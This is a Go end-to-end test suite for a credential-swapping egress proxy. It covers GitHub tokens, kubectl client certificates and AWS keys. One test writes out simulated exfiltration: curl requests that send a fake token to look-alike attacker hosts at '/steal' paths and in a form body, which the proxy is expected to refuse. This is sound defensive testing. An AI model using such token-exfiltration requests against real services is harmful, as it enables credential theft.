package e2e

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"

	"guard/internal/testaws"
	"guard/internal/testpki"
)

// recorder is an upstream that echoes what it was sent, and keeps it.
type recorder struct {
	mu   sync.Mutex
	seen []string
}

func (rec *recorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	line := r.Method + " " + r.URL.String() + " auth=" + r.Header.Get("Authorization") + " key=" + r.Header.Get("X-Api-Key") + " body=" + string(body)
	rec.mu.Lock()
	rec.seen = append(rec.seen, line)
	rec.mu.Unlock()
	w.Header().Set("X-Echo-Auth", r.Header.Get("Authorization"))
	io.WriteString(w, "echo: "+line)
}

func (rec *recorder) all() string {
	rec.mu.Lock()
	defer rec.mu.Unlock()
	return strings.Join(rec.seen, "\n")
}

// TestCredentialsAtTheWire runs guardd with a credential whose real value
// is a known canary, and curl through it: the upstream of the credential's
// host gets the real secret, while the client, even when that upstream
// echoes the secret back, never sees it; a fake sent to another host (a
// look-alike, a suffix, the address, a body) is refused with 451 and marks
// the workspace compromised until guardctl compromise clear.
func TestCredentialsAtTheWire(t *testing.T) {
	const canary = "ghp_CANARYcanaryCANARYcanaryCANARY0001"
	pki := testpki.New(t)
	good, evil := &recorder{}, &recorder{}
	goodPort := serveHTTPS(t, "127.0.0.31", good, serverTLS(t, pki, "api.github.com"))
	evilPort := serveHTTPS(t, "127.0.0.32", evil, serverTLS(t, pki, "evilgithub.com", "api.github.com.evil.test"))
	plainLn, err := net.Listen("tcp", "127.0.0.31:0")
	if err != nil {
		t.Fatal(err)
	}
	plain := &recorder{}
	go http.Serve(plainLn, plain)
	defer plainLn.Close()

	dir := shortDir(t)
	writeFile(t, dir, "upstream-ca.pem", string(pki.PEM))
	prof := writeFile(t, dir, "profile.json", `{"name":"creds",
	  "credentials":[{"id":"gh","title":"GitHub","service":"github","hosts":["github.com"],"headers":["X-Api-Key"],
	    "secret":{"value":"`+canary+`"}}],
	  "egress":{"rules":"allow web api.github.com\nallow web api.github.com.evil.test\nallow web evilgithub.com\nallow web 127.0.0.32\ndefault deny\n",
	    "upstreamCAs":["upstream-ca.pem"]},
	  "dns":{"hosts":{"api.github.com":"127.0.0.31","api.github.com.evil.test":"127.0.0.32","evilgithub.com":"127.0.0.32"}}}`)
	proxyAddr := freeLoopbackAddr(t)
	g := startGuardd(t, "--profile", prof, "--proxy-listen", proxyAddr)
	caPEM, _ := g.ctl(t, "ca", "export")
	caFile := writeFile(t, dir, "guard-ca.pem", caPEM)

	out, code := g.ctl(t, "credentials", "list", "--json")
	var creds []struct{ ID, Fake string }
	if code != 0 || json.Unmarshal([]byte(out), &creds) != nil || len(creds) != 1 {
		t.Fatalf("credentials list: %d %s", code, out)
	}
	fake := creds[0].Fake
	if strings.Contains(out, canary) || !strings.HasPrefix(fake, "ghp_") || len(fake) != 40 {
		t.Fatalf("credentials list shows %s", out)
	}

	// Every byte curl receives is kept, to look for the canary.
	var seen bytes.Buffer
	curl := func(args ...string) (string, int) {
		cmd := exec.Command("curl", append([]string{"-sS", "-i", "--max-time", "20", "--proxy", "http://" + proxyAddr, "--cacert", caFile}, args...)...)
		cmd.Env = []string{"PATH=/usr/bin:/bin"}
		b, _ := cmd.CombinedOutput()
		seen.Write(b)
		// The last status line: the proxy's CONNECT answer comes first.
		status, text := 0, string(b)
		if i := strings.LastIndex(text, "\nHTTP/"); i >= 0 {
			text = text[i+1:]
		}
		fmt.Sscanf(text, "HTTP/%s %d", new(string), &status)
		return string(b), status
	}
	goodURL := fmt.Sprintf("https://api.github.com:%d", goodPort)

	// In scope, over TLS: the upstream gets the real secret, in the
	// Authorization header and in the credential's own header; the echo
	// comes back with the fake.
	if out, status := curl("-H", "Authorization: token "+fake, "-H", "X-Api-Key: "+fake, goodURL+"/user"); status != 200 || !strings.Contains(out, fake) {
		t.Fatalf("in scope: %d %s", status, out)
	}
	if !strings.Contains(good.all(), "auth=token "+canary) || !strings.Contains(good.all(), "key="+canary) {
		t.Fatalf("the upstream did not get the real secret: %s", good.all())
	}
	// Plain HTTP to the same host: never swapped.
	curl("-H", "Authorization: token "+fake, fmt.Sprintf("http://api.github.com:%d/plain", plainLn.Addr().(*net.TCPAddr).Port))
	if strings.Contains(plain.all(), canary) || !strings.Contains(plain.all(), fake) {
		t.Fatalf("plain HTTP: %s", plain.all())
	}

	// Out of scope: refused, marked, and nothing reaches the server.
	for _, target := range []string{
		fmt.Sprintf("https://api.github.com.evil.test:%d/steal", evilPort),
		fmt.Sprintf("https://evilgithub.com:%d/steal", evilPort),
		fmt.Sprintf("https://127.0.0.32:%d/steal", evilPort),
	} {
		if out, status := curl("-H", "Authorization: token "+fake, target); status != 451 {
			t.Fatalf("%s: %d %s", target, status, out)
		}
		// The workspace is compromised: even the good host is refused now.
		if _, status := curl("-H", "Authorization: token "+fake, goodURL+"/user"); status != 451 {
			t.Fatalf("a compromised workspace let a request through: %d", status)
		}
		if out, code := g.ctl(t, "compromise"); code != 1 || !strings.Contains(out, "compromised") {
			t.Fatalf("compromise: %d %s", code, out)
		}
		if out, code := g.ctl(t, "compromise", "clear"); code != 0 || !strings.Contains(out, "cleared") {
			t.Fatalf("compromise clear: %d %s", code, out)
		}
	}
	// In a body, to another host.
	if out, status := curl("--data-binary", "token="+fake, fmt.Sprintf("https://evilgithub.com:%d/form", evilPort)); status != 451 {
		t.Fatalf("body: %d %s", status, out)
	}
	g.ctl(t, "compromise", "clear")
	if evil.all() != "" && strings.Contains(evil.all(), fake) {
		t.Fatalf("a fake reached the wrong host: %s", evil.all())
	}
	if strings.Contains(seen.String(), canary) {
		t.Fatal("the real secret reached the client side")
	}
	ev, _ := g.ctl(t, "events", "--json")
	if strings.Contains(ev, canary) || !strings.Contains(ev, `"type":"credential.use"`) || !strings.Contains(ev, `"type":"credential.compromise"`) {
		t.Fatalf("events: %s", ev)
	}
}

// clientCertPEM makes a CA and a client certificate for name signed by it:
// the CA pool for the server, and the certificate with its key as PEM.
func clientCertPEM(t *testing.T, name string) (*x509.CertPool, string) {
	t.Helper()
	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	caTmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "test client CA"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageCertSign}
	caDER, _ := x509.CreateCertificate(rand.Reader, caTmpl, caTmpl, &caKey.PublicKey, caKey)
	caCert, _ := x509.ParseCertificate(caDER)
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: name},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth}}
	der, _ := x509.CreateCertificate(rand.Reader, tmpl, caCert, &key.PublicKey, caKey)
	keyDER, _ := x509.MarshalECPrivateKey(key)
	pool := x509.NewCertPool()
	pool.AddCert(caCert)
	return pool, string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})) + string(pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: keyDER}))
}

// TestKubectlWithAClientCertificate: the VM's kubeconfig holds a fake
// token; guard drops it and presents the real client certificate to an
// API server that requires one.
func TestKubectlWithAClientCertificate(t *testing.T) {
	pki := testpki.New(t)
	clientCAs, clientPEM := clientCertPEM(t, "agent-admin")
	var sawAuth, sawCert string
	var mu sync.Mutex
	kube := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		sawAuth = r.Header.Get("Authorization")
		if len(r.TLS.PeerCertificates) > 0 {
			sawCert = r.TLS.PeerCertificates[0].Subject.CommonName
		}
		mu.Unlock()
		kubeStub().ServeHTTP(w, r)
	})
	requireCert := serverTLS(t, pki, "kube.cert.test")
	requireCert.ClientAuth, requireCert.ClientCAs = tls.RequireAndVerifyClientCert, clientCAs
	port := serveHTTPS(t, "127.0.0.33", kube, requireCert)

	dir := shortDir(t)
	writeFile(t, dir, "upstream-ca.pem", string(pki.PEM))
	writeFile(t, dir, "client.pem", clientPEM)
	prof := writeFile(t, dir, "profile.json", `{"name":"kcert",
	  "credentials":[{"id":"kube","title":"Cluster","service":"kubernetes","hosts":["kube.cert.test"],"secret":{"file":"client.pem"}}],
	  "egress":{"rules":"allow web kube.cert.test\ndefault deny\n","upstreamCAs":["upstream-ca.pem"]},
	  "dns":{"hosts":{"kube.cert.test":"127.0.0.33"}}}`)
	proxyAddr := freeLoopbackAddr(t)
	g := startGuardd(t, "--profile", prof, "--proxy-listen", proxyAddr)
	caPEM, _ := g.ctl(t, "ca", "export")
	caFile := writeFile(t, dir, "guard-ca.pem", caPEM)
	out, _ := g.ctl(t, "credentials", "list", "--json")
	var creds []struct{ Fake string }
	if json.Unmarshal([]byte(out), &creds) != nil || len(creds) != 1 || strings.Contains(out, "PRIVATE KEY") {
		t.Fatalf("credentials list: %s", out)
	}
	kubeconfig := writeFile(t, dir, "kubeconfig", fmt.Sprintf(`apiVersion: v1
kind: Config
clusters:
- name: c
  cluster: {server: "https://kube.cert.test:%d", certificate-authority: %s, proxy-url: "http://%s"}
users:
- name: u
  user: {token: %s}
contexts:
- name: c
  context: {cluster: c, user: u, namespace: default}
current-context: c
`, port, caFile, proxyAddr, creds[0].Fake))
	cmd := exec.Command("kubectl", "get", "pods")
	cmd.Env = []string{"PATH=/usr/bin:/bin:/usr/local/bin", "HOME=" + dir, "KUBECONFIG=" + kubeconfig}
	b, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("kubectl get pods: %v\n%s", err, b)
	}
	mu.Lock()
	defer mu.Unlock()
	if sawCert != "agent-admin" || sawAuth != "" {
		t.Fatalf("the API server saw certificate %q and Authorization %q", sawCert, sawAuth)
	}
	if strings.Contains(string(b), "PRIVATE KEY") {
		t.Fatal("the key reached the client")
	}
}

// TestAWSCLIWithFakeKeys: the aws CLI, given only the fake key, lists
// tables at an endpoint that takes only the real key; the key the
// endpoint echoes back reaches the client as the fake.
func TestAWSCLIWithFakeKeys(t *testing.T) {
	real := aws.Credentials{AccessKeyID: "AKIAREALKEYE2E00001X", SecretAccessKey: "e2eRealSecretE2eRealSecretE2eRealSecret0"}
	pki := testpki.New(t)
	stub := &testaws.Stub{Real: real}
	stubPort := serveHTTPS(t, "127.0.0.34", stub, serverTLS(t, pki, "dynamodb.us-east-1.amazonaws.com"))
	dir := shortDir(t)
	writeFile(t, dir, "upstream-ca.pem", string(pki.PEM))
	prof := writeFile(t, dir, "profile.json", `{"name":"awscli",
	  "credentials":[{"id":"aws","title":"AWS","service":"aws","hosts":["amazonaws.com"],"secret":{"value":"`+real.AccessKeyID+":"+real.SecretAccessKey+`"}}],
	  "egress":{"rules":"allow web dynamodb.us-east-1.amazonaws.com\ndefault deny\n","upstreamCAs":["upstream-ca.pem"]},
	  "dns":{"hosts":{"dynamodb.us-east-1.amazonaws.com":"127.0.0.34"}}}`)
	proxyAddr := freeLoopbackAddr(t)
	g := startGuardd(t, "--profile", prof, "--proxy-listen", proxyAddr)
	caPEM, _ := g.ctl(t, "ca", "export")
	caFile := writeFile(t, dir, "guard-ca.pem", caPEM)
	out, _ := g.ctl(t, "credentials", "list", "--json")
	var creds []struct{ Fake, FakeKeyID string }
	if json.Unmarshal([]byte(out), &creds) != nil || len(creds) != 1 || creds[0].FakeKeyID == "" || strings.Contains(out, real.SecretAccessKey) {
		t.Fatalf("credentials list: %s", out)
	}
	cmd := exec.Command("aws", "dynamodb", "list-tables", "--output", "json",
		fmt.Sprintf("--endpoint-url=https://dynamodb.us-east-1.amazonaws.com:%d", stubPort))
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "HTTPS_PROXY=http://" + proxyAddr, "AWS_CA_BUNDLE=" + caFile,
		"AWS_ACCESS_KEY_ID=" + creds[0].FakeKeyID, "AWS_SECRET_ACCESS_KEY=" + creds[0].Fake, "AWS_DEFAULT_REGION=us-east-1",
		"AWS_MAX_ATTEMPTS=1", "AWS_PAGER="}
	b, err := cmd.CombinedOutput()
	if err != nil || !strings.Contains(string(b), "orders") {
		t.Fatalf("aws dynamodb list-tables: %v\n%s", err, b)
	}
	if strings.Contains(string(b), real.AccessKeyID) || !strings.Contains(string(b), creds[0].FakeKeyID) {
		t.Fatalf("the echoed key was not turned back into the fake:\n%s", b)
	}
	// Signed with another secret: refused by guard, not by AWS.
	wrong := exec.Command(cmd.Args[0], cmd.Args[1:]...)
	wrong.Env = append(cmd.Env, "AWS_SECRET_ACCESS_KEY=notTheFakeNotTheFakeNotTheFakeNotTheFake")
	if b, err := wrong.CombinedOutput(); err == nil || !strings.Contains(string(b), "fake secret") {
		t.Fatalf("a request signed with another secret: %v\n%s", err, b)
	}
}
